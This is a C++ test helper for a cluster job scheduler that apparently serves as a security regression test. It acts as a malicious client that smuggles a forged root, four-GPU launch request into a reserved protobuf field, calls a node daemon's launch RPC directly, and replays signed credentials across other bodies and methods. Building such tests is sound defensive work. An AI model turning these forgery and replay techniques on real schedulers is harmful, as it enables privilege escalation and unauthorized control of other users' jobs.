// Test helper: a malicious client. Never installed; built into
// build/test-bin, away from the real commands.
//
//   forge_launch OUTFILE      asks for a one-GPU interactive job whose
//       request also carries, in the old launch-message field (number 9,
//       now reserved), a node launch request claiming uid 0, four GPUs, 64
//       CPUs and tasks on two nodes. The task appends `id -u` and
//       CUDA_VISIBLE_DEVICES to OUTFILE; the helper accepts the step's I/O
//       connection so the task runs, then ends the job.
//   forge_launch --direct OUTFILE   calls the first node daemon's
//       LaunchTasks itself and prints what it says (naming the node in
//       $FORGE_NODE, if set).
//   forge_launch --replay JOB  mints credentials for harmless requests and
//       sends them with a CancelJobs of JOB (another body, another method,
//       a second use), printing what the controller says to each.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>

#include "absl/strings/numbers.h"
#include "cli/allocation.h"
#include "cli/cli_util.h"
#include "cli/ctld_client.h"
#include "common/rpc/rpc_auth.h"
#include "ctld.grpc.pb.h"
#include "node.grpc.pb.h"

namespace v1 = ::sluice::v1;

namespace {

void PutVarint(std::string* out, uint64_t v) {
  while (v >= 0x80) {
    out->push_back(static_cast<char>(v | 0x80));
    v >>= 7;
  }
  out->push_back(static_cast<char>(v));
}

// Field `number` of wire type 2 holding `bytes`.
std::string LengthDelimited(int number, const std::string& bytes) {
  std::string out;
  PutVarint(&out, (static_cast<uint64_t>(number) << 3) | 2);
  PutVarint(&out, bytes.size());
  return out + bytes;
}

int Direct(const sluice::common::SlurmConfig& cfg, const std::string& out) {
  const auto& n = cfg.nodes.at(0);
  auto stub = v1::SluiceNode::NewStub(grpc::CreateChannel(
      sluice::cli::GrpcTarget(n.addr + ":" + std::to_string(cfg.NodePort(n))),
      grpc::InsecureChannelCredentials()));
  auto auth = sluice::common::MakeMungeAuthenticator(cfg.auth_socket);
  v1::LaunchTasksRequest req;
  req.set_job_id(1);
  req.set_uid(getuid());
  req.add_argv("/bin/sh");
  req.add_argv("-c");
  req.add_argv("id -u > " + out);
  req.add_tasks(0);
  req.set_ntasks(1);
  if (const char* node = std::getenv("FORGE_NODE")) req.set_node(node);
  grpc::ClientContext ctx;
  (void)sluice::common::AttachCredential(&ctx, *auth, "LaunchTasks", req);
  v1::LaunchTasksReply rep;
  grpc::Status st = stub->LaunchTasks(&ctx, req, &rep);
  std::printf("status=%d %s error=%s\n", st.error_code(), st.error_message().c_str(),
              rep.error().c_str());
  return 0;
}

// Sends `sent` with a credential minted for `signed_method`/`signed_body`
// (or `cred` when given) and prints the outcome.
std::string Try(v1::SluiceCtld::Stub& stub, sluice::common::Authenticator& auth,
                const char* label, const std::string& signed_method,
                const google::protobuf::MessageLite& signed_body,
                const v1::CancelJobsRequest& sent, std::string cred = "") {
  if (cred.empty()) {
    auto c = auth.Sign(sluice::common::RpcCredentialPayload(signed_method, signed_body));
    if (!c.ok()) return "";
    cred = *c;
  }
  grpc::ClientContext ctx;
  ctx.AddMetadata(sluice::common::kCredMetadataKey, cred);
  v1::CancelJobsReply rep;
  grpc::Status st = stub.CancelJobs(&ctx, sent, &rep);
  std::printf("%s: status=%d %s\n", label, st.error_code(), st.error_message().c_str());
  return cred;
}

int Replay(const sluice::common::SlurmConfig& cfg, uint64_t job) {
  auto stub = v1::SluiceCtld::NewStub(grpc::CreateChannel(
      sluice::cli::GrpcTarget(cfg.ctld_addr + ":" + std::to_string(cfg.ctld_port)),
      grpc::InsecureChannelCredentials()));
  auto auth = sluice::common::MakeMungeAuthenticator(cfg.auth_socket);
  v1::CancelJobsRequest harmless;
  harmless.add_job_ids(999999999);
  v1::CancelJobsRequest victim;
  victim.add_job_ids(job);
  v1::QueryJobsRequest query;
  query.add_job_ids(job);
  Try(*stub, *auth, "other-body", "CancelJobs", harmless, victim);
  Try(*stub, *auth, "other-method", "QueryJobs", victim, victim);
  std::string cred = Try(*stub, *auth, "harmless", "CancelJobs", harmless, harmless);
  Try(*stub, *auth, "reused", "", harmless, harmless, cred);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::string mode = argc == 3 ? argv[1] : "";
  if (argc != 2 && mode != "--direct" && mode != "--replay") return 2;
  auto cfg = sluice::cli::LoadConfigOrComplain("forge_launch");
  if (!cfg) return 2;
  if (mode == "--direct") return Direct(*cfg, argv[2]);
  if (mode == "--replay") {
    uint64_t job = 0;
    if (!absl::SimpleAtoi(argv[2], &job)) return 2;
    return Replay(*cfg, job);
  }
  int lfd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof a;
  if (bind(lfd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || listen(lfd, 4) != 0 ||
      getsockname(lfd, reinterpret_cast<sockaddr*>(&a), &len) != 0)
    return 2;
  std::string script = std::string("{ id -u; echo \"gpus=$CUDA_VISIBLE_DEVICES\"; } >> ") + argv[1];
  sluice::cli::CtldClient client(*cfg);
  v1::SubmitBatchJobRequest req;
  auto* j = req.mutable_job();
  j->set_interactive(true);
  j->set_name("forged");
  j->set_min_nodes(1);
  j->set_ntasks(1);
  j->set_gpus_per_node("1");
  j->set_work_dir("/tmp");
  auto* t = req.mutable_first_step()->mutable_launch();
  for (const char* s : {"/bin/sh", "-c"}) t->add_argv(s);
  t->add_argv(script);
  t->set_cwd("/tmp");
  t->set_io_address("127.0.0.1:" + std::to_string(ntohs(a.sin_port)));
  t->set_io_key("0123456789abcdef");
  // The lie, in the shape the old API forwarded to the nodes.
  v1::LaunchTasksRequest claim;
  claim.set_uid(0);
  claim.set_gid(0);
  claim.set_user("root");
  for (uint32_t g : {0, 1, 2, 3}) claim.add_gpus(g);
  claim.set_cpus(64);
  for (uint32_t k : {0, 1}) claim.add_tasks(k);
  claim.set_ntasks(2);
  claim.add_argv("/bin/sh");
  claim.add_argv("-c");
  claim.add_argv(script);
  std::string old_launch = LengthDelimited(1, claim.SerializeAsString());
  v1::CreateStepRequest first = req.first_step();
  std::string with_claim = first.SerializeAsString() + LengthDelimited(9, old_launch);
  if (!req.mutable_first_step()->ParseFromString(with_claim)) return 2;
  auto rep = client.Submit(req);
  if (!rep.ok()) {
    std::printf("rpc error: %s\n", std::string(rep.status().message()).c_str());
    return 1;
  }
  std::printf("job %lu launched=%d errors=%d\n", (unsigned long)rep->job_id(),
              rep->first_step().launched(), rep->first_step().launch_errors_size());
  // Let the stepd connect and the task finish (it closes the connection).
  pollfd p{lfd, POLLIN, 0};
  if (poll(&p, 1, 20000) == 1) {
    int c = accept(lfd, nullptr, nullptr);
    char buf[4096];
    pollfd q{c, POLLIN, 0};
    while (poll(&q, 1, 20000) == 1 && read(c, buf, sizeof buf) > 0) {
    }
    close(c);
  }
  sluice::cli::Release(client, rep->job_id(), -1, 0, 0);
  return 0;
}
